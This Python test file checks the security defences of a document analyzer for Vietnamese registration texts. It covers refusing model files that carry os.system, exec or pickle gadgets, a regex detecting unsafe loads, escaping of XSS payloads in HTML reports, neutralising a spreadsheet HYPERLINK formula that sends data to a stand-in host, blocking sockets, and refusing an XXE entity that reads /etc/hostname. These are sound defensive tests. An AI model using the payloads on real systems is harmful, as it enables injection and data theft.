"""Submission text and model files are untrusted: only containers and arrays in a model, never pickle, escaped HTML,
neutralised spreadsheet formulas, and no network access while scoring."""

from __future__ import annotations

import io
import re
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest

import analyzer
from analyzer.batch import score_folder
from analyzer.config import Config
from analyzer.errors import DataFileError
from analyzer.learn.model import load_model
from analyzer.learn.predict import read_model_file
from conftest import read_csv

HERE = Path(__file__).resolve().parent
PACKAGE = Path(analyzer.__file__).resolve().parent
MODEL = PACKAGE.parent / "models" / "sentences.skops"
SCRIPT = "<script>alert(1)</script>"
EVIL_NAME = "<img src=x onerror=alert(2)>.txt"
RISKY = ("=", "+", "-", "@")


class Gadget:
    """A class no model file may bring in."""

    def __init__(self) -> None:
        self.command = "echo pwned"


def _state():  # type: ignore[no-untyped-def]
    return load_model(MODEL).to_state()


# --- model files ---------------------------------------------------------------------------------

def test_the_shipped_model_loads():
    assert load_model(MODEL).labels


def test_model_with_an_untrusted_type_is_refused(tmp_path):
    import skops.io as sio

    path = tmp_path / "sentences.skops"
    sio.dump(dict(_state(), gadget=Gadget()), path)
    with pytest.raises(DataFileError) as error:
        load_model(path)
    assert error.value.code == "E302" and "Gadget" in str(error.value)


def test_model_with_a_dangerous_function_is_refused(tmp_path):
    import os

    import skops.io as sio

    path = tmp_path / "sentences.skops"
    sio.dump(dict(_state(), hook=os.system), path)
    with pytest.raises(DataFileError) as error:
        load_model(path)
    assert error.value.code == "E302" and "system" in str(error.value)


def test_model_with_builtins_exec_is_refused(tmp_path):
    import skops.io as sio
    from sklearn.preprocessing import FunctionTransformer

    path = tmp_path / "sentences.skops"
    sio.dump(dict(_state(), words=FunctionTransformer(func=exec)), path)
    with pytest.raises(DataFileError):
        load_model(path)


def test_a_corrupt_or_pickled_model_file_is_a_coded_error(tmp_path):
    import pickle

    path = tmp_path / "sentences.skops"
    path.write_bytes(pickle.dumps({"params": {}}))
    with pytest.raises(DataFileError) as error:
        load_model(path)
    assert error.value.code == "E302"


def test_a_model_array_that_needs_pickle_is_refused(tmp_path):
    import json
    import zipfile

    path = tmp_path / "sentences.skops"
    buffer = io.BytesIO()
    np.save(buffer, np.array([Gadget()], dtype=object), allow_pickle=True)
    schema = {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "key_types": {"content": []},
              "content": {"format": {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode",
                                     "content": '"mohinh.sentences/2"', "is_json": True},
                          "coef": {"__class__": "ndarray", "__module__": "numpy", "__loader__": "NdArrayNode",
                                   "type": "numpy", "file": "coef.npy"}}, "protocol": 2}
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("schema.json", json.dumps(schema))
        archive.writestr("coef.npy", buffer.getvalue())
    with pytest.raises(DataFileError) as error:
        load_model(path)
    assert error.value.code == "E302" and "allow_pickle" in str(error.value)


def test_a_model_of_the_old_format_asks_for_retraining(tmp_path):
    import skops.io as sio
    from sklearn.linear_model import LogisticRegression

    path = tmp_path / "sentences.skops"
    sio.dump({"params": {}, "classifiers": {"hoc_tap": LogisticRegression()}}, path)
    with pytest.raises(DataFileError) as error:
        load_model(path)
    assert error.value.code == "E302" and "mohinh train" in str(error.value)


def test_the_model_reader_reads_what_skops_reads():
    import skops.io as sio

    ours, theirs = read_model_file(MODEL), sio.load(MODEL, trusted=[])

    def equal(a, b) -> bool:  # type: ignore[no-untyped-def]
        if isinstance(a, dict):
            return isinstance(b, dict) and a.keys() == b.keys() and all(equal(a[k], b[k]) for k in a)
        if isinstance(a, (list, tuple)):
            return type(a) is type(b) and len(a) == len(b) and all(equal(x, y) for x, y in zip(a, b))
        if isinstance(a, np.ndarray):
            return isinstance(b, np.ndarray) and a.dtype == b.dtype and np.array_equal(a, b)
        return type(a) is type(b) and a == b

    assert equal(ours, theirs)


def test_scoring_imports_neither_scikit_learn_nor_skops():
    """The model is scored with NumPy alone (a cold start without two seconds of imports)."""
    code = ("import sys, analyzer\n"
            "assert analyzer.analyze_text('Chi bộ tổ chức 4 buổi học tập chuyên đề năm 2024.').sentences\n"
            "print(sorted({m.split('.')[0] for m in sys.modules} & {'sklearn', 'scipy', 'skops', 'pandas'}))")
    run = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=180)
    assert run.returncode == 0, run.stderr[-3000:]
    assert run.stdout.strip().splitlines()[-1] == "[]"


def test_loading_the_model_never_unpickles(monkeypatch):
    import pickle

    def refuse(*args, **kwargs):  # type: ignore[no-untyped-def]
        raise AssertionError("pickle used while loading a model")

    for name in ("load", "loads"):
        monkeypatch.setattr(pickle, name, refuse)
    monkeypatch.setattr(pickle, "Unpickler", refuse)
    assert load_model(MODEL).labels


UNSAFE_LOADS = re.compile(
    r"\b(?:pickle|cPickle|_pickle|dill|cloudpickle|joblib|shelve|marshal)\.(?:load|loads|Unpickler|open)\b"
    r"|\bread_pickle\s*\(|allow_pickle\s*=\s*True|\btorch\.load\s*\(|trusted\s*=\s*True|\beval\s*\(|\bexec\s*\("
)


def test_no_pickle_or_joblib_loading_in_the_package():
    offenders = []
    for path in sorted(PACKAGE.rglob("*.py")):
        for lineno, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if UNSAFE_LOADS.search(line.split("#", 1)[0]):
                offenders.append(f"{path.relative_to(PACKAGE.parent)}:{lineno}: {line.strip()}")
    assert offenders == []
    assert "allow_pickle=False" in (PACKAGE / "learn" / "predict.py").read_text(encoding="utf-8")


def test_the_shipped_model_holds_only_types_skops_trusts_by_default():
    import skops.io as sio

    assert sio.get_untrusted_types(file=MODEL) == []


# --- reports -------------------------------------------------------------------------------------

def _report():  # type: ignore[no-untyped-def]
    report = pytest.importorskip("analyzer.report", reason="analyzer.report is not written yet")
    if not hasattr(report, "render_reports") or not hasattr(report, "document_html"):
        pytest.skip("analyzer.report has no render_reports/document_html yet")
    return report


HOSTILE_LINES = [
    f"Chi bộ tổ chức cho 100% đảng viên học tập chuyên đề trước 30/6/2024 {SCRIPT}.",
    "- Bí thư chi bộ đăng ký 3 việc làm cụ thể, công khai trước 30/4/2024.",
    "+ Mỗi quý 1 lần, chi bộ kiểm tra việc thực hiện cam kết của 15 đảng viên.",
    '=HYPERLINK("http://example.invalid/?q="&A1;"Chi bộ tổ chức 4 buổi sinh hoạt chuyên đề năm 2024")',
    "@SUM(1+1) Đoàn viên tham gia 2 buổi lao động tình nguyện mỗi tháng.",
    "Đồng chí <b onmouseover=alert(3)>Nguyễn Văn An</b> là cá nhân điển hình của mô hình.",
]


@pytest.fixture(scope="module")
def hostile_batch(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile") / "IN"
    root.mkdir()
    (root / "bản đăng ký.txt").write_text("\n".join(HOSTILE_LINES), encoding="utf-8")
    (root / EVIL_NAME).write_text("\n".join(HOSTILE_LINES[:2]), encoding="utf-8")
    (root / "=1+1.txt").write_text(HOSTILE_LINES[1], encoding="utf-8")
    (root / "-2+3 trống.txt").write_bytes(b"")
    out = tmp_path_factory.mktemp("hostile_out")
    score_folder(root, out, config=Config(jobs=1), progress=False)
    return out


def test_html_escapes_submission_text():
    report = _report()
    result = analyzer.analyze_text("\n".join(HOSTILE_LINES), doc_id=EVIL_NAME)
    for standalone in (True, False):
        html = report.document_html(result, standalone=standalone)
        assert SCRIPT not in html and "<b onmouseover" not in html and "<img src=x" not in html
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_html_report_pages_escape_text_and_file_names(hostile_batch):
    report = _report()
    paths = report.render_reports(hostile_batch)
    pages = [paths.index, *sorted(Path(paths.docs_dir).glob("*.html"))]
    assert len(pages) >= 3
    for page in pages:
        html = page.read_text(encoding="utf-8")
        assert SCRIPT not in html and "<img src=x" not in html and "<b onmouseover" not in html, page.name
    assert "&lt;img src=x onerror=alert(2)&gt;" in paths.index.read_text(encoding="utf-8")


def test_excel_cells_cannot_start_a_formula(hostile_batch):
    report = _report()
    from openpyxl import load_workbook

    paths = report.render_reports(hostile_batch)
    workbook = load_workbook(paths.xlsx)
    risky = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value.startswith(RISKY):
                    risky.append(cell)
                    assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate} = {cell.value!r} is not quote-prefixed"
    starts = {cell.value[0] for cell in risky}
    assert {"=", "-"} <= starts, sorted(cell.value for cell in risky)  # a file name and a "- " bullet at least


# --- no network ----------------------------------------------------------------------------------

def test_scoring_needs_no_network(no_network, samples_dir, tmp_path):
    summary = score_folder(samples_dir, tmp_path / "OUT", config=Config(jobs=1), progress=False, use_cache=False)
    errors = [r["error"] for r in read_csv(tmp_path / "OUT" / "documents.csv") if r["error"]]
    assert summary.n_files == len(list(samples_dir.iterdir())) and errors == []
    result = analyzer.analyze_text("Chi bộ tổ chức cho 100% đảng viên học tập chuyên đề trước 30/6/2024.")
    assert result.ok and result.sentences
    assert no_network == []


def test_sockets_are_really_blocked(no_network):
    import socket
    import urllib.request

    with pytest.raises(OSError):
        socket.create_connection(("example.invalid", 80), timeout=1)
    with pytest.raises(OSError):
        urllib.request.urlopen("http://example.invalid/", timeout=1)
    assert no_network


_COLD_START = r"""
import sys
sys.path.insert(0, sys.argv[3])
import pytest
from conftest import block_network
attempts = []
block_network(pytest.MonkeyPatch(), attempts)
import analyzer
from analyzer.cli import main
main(["score", sys.argv[1], "--out", sys.argv[2], "--jobs", "1", "--quiet", "--no-cache"], standalone_mode=False)
assert analyzer.analyze_text("Chi bộ tổ chức học tập chuyên đề năm 2024.").ok
print("attempts:", len(attempts), attempts[:5])
"""


def test_a_cold_start_without_network_scores_the_samples(samples_dir, tmp_path):
    """Imports, model loading and scoring in a fresh interpreter whose sockets are blocked from the start."""
    run = subprocess.run([sys.executable, "-c", _COLD_START, str(samples_dir), str(tmp_path / "OUT"), str(HERE)],
                         capture_output=True, text=True, timeout=180)
    assert run.returncode == 0, run.stderr[-3000:]
    assert "attempts: 0 []" in run.stdout, run.stdout
    assert (tmp_path / "OUT" / "documents.csv").is_file()


def test_an_odt_declaring_an_external_entity_is_refused_and_says_why(tmp_path):
    """An XXE in content.xml ("<!ENTITY e SYSTEM 'file:///etc/hostname'>"): never read, a plain reason."""
    import zipfile

    from analyzer.api import analyze_file

    source = PACKAGE.parent / "corpora" / "samples" / "chi_cuc_hai_quan_dang_ky.odt"
    target = tmp_path / "xxe.odt"
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        for item in old.infolist():
            data = old.read(item.filename)
            if item.filename == "content.xml":
                text = data.decode("utf-8")
                at = text.index("?>") + 2
                text = text[:at] + '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>' + text[at:]
                data = text.replace("</office:text>", "<text:p>&e;</text:p></office:text>", 1).encode("utf-8")
            new.writestr(item, data)
    result = analyze_file(target)
    assert result.status == "error" and result.error.startswith("E104: ")
    assert "declares entities or external references, refused as unsafe" in result.error
